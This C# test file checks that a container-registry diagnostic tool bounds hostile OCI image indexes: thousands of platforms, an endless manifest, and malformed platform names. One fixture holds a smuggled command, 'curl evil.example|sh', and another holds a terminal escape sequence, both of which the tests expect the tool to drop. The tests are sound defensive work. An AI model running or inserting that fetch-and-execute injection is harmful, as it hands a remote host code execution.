using PullDoctor.Core.Causes;
using PullDoctor.RegistryFixtures.Hostile;
using PullDoctor.Security.Tests.Support;

namespace PullDoctor.Security.Tests.Bounds;

/// <summary>An index with thousands of platforms, or platform names outside their grammar, and endless manifests.</summary>
public sealed class IndexBoundsTests
{
    private static string Entry(int i, string os, string arch) =>
        $$$"""{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:{{{i:x64}}}","size":2,"platform":{"os":"{{{os}}}","architecture":"{{{arch}}}"}}""";

    private static async Task<PullDoctor.Registry.Probe.ProbeResult> ProbeIndexAsync(IEnumerable<string> entries, string platform = "linux/amd64")
    {
        await using var registry = HostileRegistry.Start();
        var index = $$"""{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[{{string.Join(",", entries)}}]}""";
        registry.On("/v2/", HostileResponse.Json(200, "{}"))
            .On("/v2/app/manifests/*", HostileResponse.Text(200, index, "application/vnd.oci.image.index.v1+json"));
        var options = AttackProbe.Options();
        options.PlainHttpRegistries.Add(registry.Host);
        return await AttackProbe.RunAsync($"{registry.Host}/app:1.0", options, platform: platform);
    }

    [Test]
    public async Task ThousandsOfPlatforms_AreListedBounded()
    {
        var result = await ProbeIndexAsync(Enumerable.Range(0, 3000).Select(i => Entry(i, "linux", $"arch{i}")));

        Assert.Multiple(() =>
        {
            Assert.That(result.Cause, Is.EqualTo(CauseCode.PlatformMismatch), AttackProbe.Explain(result));
            Assert.That(result.AvailablePlatforms.Count, Is.LessThanOrEqualTo(32));
            Assert.That(result.Detail.Length, Is.LessThan(2048));
        });
    }

    [Test]
    public async Task PlatformNamesOutsideTheGrammar_AreDropped()
    {
        var result = await ProbeIndexAsync(
        [
            Entry(1, "linux", "amd64;curl evil.example|sh"),
            Entry(2, "linux", new string('x', 5000)),
            Entry(3, "linux\\u001b[31m", "arm64"),
            Entry(4, "linux", "riscv64"),
        ]);

        Assert.Multiple(() =>
        {
            Assert.That(result.AvailablePlatforms, Is.EqualTo(new[] { "linux/riscv64" }), AttackProbe.Explain(result));
            Assert.That(AttackProbe.Everything(result), Does.Not.Contain("curl").And.Not.Contain("xxxxxxxxxx"));
        });
    }

    [Test]
    public async Task EndlessManifest_IsCutAtFourMebibytes()
    {
        await using var registry = HostileRegistry.Start();
        registry.On("/v2/", HostileResponse.Json(200, "{}"))
            .On("/v2/app/manifests/*", HostileResponse.Endless(200, "application/vnd.oci.image.index.v1+json", "{\"manifests\":["));
        var options = AttackProbe.Options();
        options.PlainHttpRegistries.Add(registry.Host);

        var result = await AttackProbe.RunAsync($"{registry.Host}/app:1.0", options);

        Assert.Multiple(() =>
        {
            Assert.That(result.Cause, Is.EqualTo(CauseCode.UnsupportedImageFormat), AttackProbe.Explain(result));
            Assert.That(registry.BodyBytesSent, Is.LessThan(16L * 1024 * 1024));
        });
    }
}
